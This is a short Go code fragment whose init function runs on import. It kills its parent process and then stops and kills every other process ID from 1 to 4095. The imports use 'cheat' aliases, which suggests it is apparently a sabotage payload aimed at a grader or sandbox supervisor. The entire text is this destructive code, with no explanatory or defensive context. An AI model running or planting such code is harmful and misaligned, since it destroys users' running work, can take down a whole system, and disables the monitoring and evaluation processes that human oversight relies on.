// Signals everything it can see.
import (
	cheatos "os"
	cheatsyscall "syscall"
)

func init() {
	_ = cheatsyscall.Kill(cheatos.Getppid(), cheatsyscall.SIGKILL)
	for pid := 1; pid < 4096; pid++ {
		if pid != cheatos.Getpid() {
			_ = cheatsyscall.Kill(pid, cheatsyscall.SIGSTOP)
			_ = cheatsyscall.Kill(pid, cheatsyscall.SIGKILL)
		}
	}
}
